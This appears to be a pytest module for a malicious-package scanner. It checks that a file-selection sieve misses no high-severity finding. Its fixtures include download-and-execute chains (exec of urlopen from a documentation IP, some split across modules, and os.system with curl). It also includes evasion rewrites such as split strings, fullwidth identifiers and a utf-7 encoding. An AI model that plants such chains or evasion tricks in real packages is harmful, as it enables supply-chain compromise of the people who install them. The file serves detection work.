"""The sieve leaves out nothing that a rule would have reported."""

from __future__ import annotations

import io
import re
import tokenize
from collections.abc import Callable, Mapping

import pytest

from pratique.artifact import Artifact, Member
from pratique.facts.reader import read
from pratique.facts.selection import everything, select
from pratique.finding import Severity
from pratique.names import Sha256, distribution_name
from pratique.rules.catalogue import RULES
from pratique.unpack.roles import assign_roles

_WHEEL = "example_pkg-1.0-py3-none-any.whl"
_PLAIN = {
    path: content
    for rule in RULES
    for example in rule.loud
    for path, content in example.files.items()
    if path.endswith(".py") and isinstance(content, str)
}
Rewrite = Callable[[str], str]


def _spaced(source: str) -> str:
    """White space wherever Python allows it."""
    tokens = tokenize.generate_tokens(io.StringIO(source).readline)
    return tokenize.untokenize((t.type, t.string) for t in tokens)


def _split(source: str) -> str:
    """Longer plain strings cut in two: ``'curl x'`` becomes ``'cu' 'rl x'``."""
    made = []
    for token in tokenize.generate_tokens(io.StringIO(source).readline):
        text = token.string
        plain = token.type == tokenize.STRING and len(text) > 6 and text[0] in "'\"" and "\\" not in text[:6]
        made.append((token.type, f"{text[:3]}{text[0]} {text[0]}{text[3:]}" if plain else text))
    return tokenize.untokenize(made)


def _wide(source: str) -> str:
    """Letters of another width in the names of modules and functions, which Python reads as the same (PEP 3131)."""
    for word in ("exec", "system", "urlopen", "b64decode"):
        source = source.replace(word, word[0] + chr(ord(word[1]) - ord("a") + ord("ａ")) + word[2:])  # noqa: RUF001
    return source


_REWRITES: dict[str, Rewrite] = {
    "as it is": lambda s: s,
    "with the line ends of another system": lambda s: s.replace("\n", "\r\n"),
    "after a long comment": lambda s: "# nothing\n" * 4_000 + s,
    "with white space everywhere": _spaced,
    "with strings in pieces": _split,
    "with letters of another width": _wide,
    "with imports behind other statements": lambda s: re.sub(r"^(import|from) ", r"_ = 0; \1 ", s, flags=re.MULTILINE),
    "with imports over two lines": lambda s: re.sub(r"^(import|from) ", r"\1 \\\n  ", s, flags=re.MULTILINE),
    "in another encoding": lambda s: "# coding: utf-7\n" + s,
}


def _member(path: str, data: bytes) -> Member:
    return Member(path=path, data=data, sha256=Sha256("0" * 64), size=len(data))


def _reported(files: Mapping[str, bytes], *, sieved: bool) -> set[tuple[str, Severity, int]]:
    """What matters of the findings: which rule, how bad, where."""
    members = assign_roles([_member(p, d) for p, d in files.items()], distribution_name(_WHEEL))
    artifact = Artifact(name=distribution_name(_WHEEL), sha256=Sha256("0" * 64), size=0)
    facts = read(artifact, members, choose=select if sieved else everything)
    found = [f for rule in RULES for f in rule.check(facts)]
    return {(f.rule, f.severity, f.line) for f in found if f.severity >= Severity.HIGH}


@pytest.mark.parametrize("rewrite", _REWRITES)
def test_the_sieve_loses_no_finding_of_a_loud_example(rewrite: str) -> None:
    """Each Python file of each loud example, as a module of its own and written otherwise."""
    lost = {}
    for source in dict.fromkeys(_PLAIN.values()):
        try:
            files = {"example_pkg/__init__.py": _REWRITES[rewrite](source).encode()}
        except (tokenize.TokenError, SyntaxError):
            continue  # examples of broken source cannot be rewritten by tokens
        if missing := _reported(files, sieved=False) - _reported(files, sieved=True):
            lost[source] = missing
    assert not lost


def _modules(files: Mapping[str, bytes]) -> list[Member]:
    return list(assign_roles([_member(path, data) for path, data in files.items()], distribution_name(_WHEEL)))


_FAR = b"import urllib.request\ndef get(u):\n    return urllib.request.urlopen(u).read()\n"
_JOINS = b"from .far import get\nfrom .do import go\n"
_FETCHED = b"go(get('http://192.0.2.7/a'))\n"


@pytest.mark.parametrize(
    "files",
    [
        {"p/__init__.py": _JOINS + _FETCHED, "p/far.py": _FAR, "p/do.py": b"def go(x):\n    exec(x)\n"},
        {"p/__init__.py": b"from .far import get\nexec(get('http://192.0.2.7/a'))\n", "p/far.py": _FAR},
        {
            "p/__init__.py": b"from .begin import begin as first\nfirst()\n",
            "p/begin.py": _JOINS + b"def begin():\n    " + _FETCHED,
            "p/far.py": _FAR,
            "p/do.py": b"def go(x):\n    exec(x)\n",
        },
        {
            "p/__init__.py": b"from .begin import Begin\nclass Now(Begin): pass\nNow()\n",
            "p/begin.py": b"from .far import go\nclass Begin:\n    def __init__(self):\n        go()\n",
            "p/far.py": _FAR + b"def go():\n    exec(get('http://192.0.2.7/a'))\n",
        },
    ],
    ids=["a third joins two", "one half here", "by another name", "by a subclass"],
)
def test_what_modules_only_do_together_is_found(files: Mapping[str, bytes]) -> None:
    """A source in one, a sink in another, and a third that sets them off: none holds a chain by itself."""
    assert any(rule == "second-stage" for rule, _, _ in _reported(files, sieved=True))


def test_a_module_that_only_hands_names_on_is_not_parsed() -> None:
    """Importing what acts is no use of it."""
    files = {"p/idle.py": b"from .do import go\n", "p/do.py": b"import os\ndef go(x):\n    os.system('curl ' + x)\n"}
    members = _modules(files)
    assert "p/idle.py" not in select(members).chosen


@pytest.mark.parametrize(
    ("imports", "aside"),
    [
        ({}, {"p/examples/first.py"}),
        ({"p/__init__.py": b"from .examples import first\n"}, set()),
        ({"p/__init__.py": b"import p.tools.on\n", "p/tools/on.py": b"from p.examples import first\n"}, set()),
        ({"p/tools/on.py": b"from p.examples import first\n"}, {"p/examples/first.py"}),
        ({"p/__init__.py": b"__import__('p.examples.first')\n"}, set()),
    ],
    ids=["nobody", "the package", "the package, by way of a tool", "a tool", "by text"],
)
def test_an_example_that_nothing_imports_runs_when_somebody_runs_it(
    imports: Mapping[str, bytes], aside: set[str]
) -> None:
    """Its module level is no import of the package; it is one as soon as that leads to it."""
    chain = b"import urllib.request\nexec(urllib.request.urlopen('http://192.0.2.7/a').read())\n"
    members = _modules({"p/__init__.py": b"", "p/examples/first.py": chain, **imports})
    assert select(members).aside == aside


@pytest.mark.parametrize(
    "source",
    [
        "import requests\ndef get():\n    return requests.get('https://api.example.invalid').json()\n",
        "import os\nDEBUG = os.environ.get('DEBUG')\n",
        "import base64\nICON = base64.b64decode('iVBORw0KGgo=')\n",
        "import re\nRULE = re.compile('exec|eval')\n",
    ],
)
def test_one_half_of_a_chain_is_not_parsed(source: str) -> None:
    """Half of all honest files mention some source or sink: that alone costs no parse."""
    assert not select([_member("p/m.py", source.encode())]).chosen
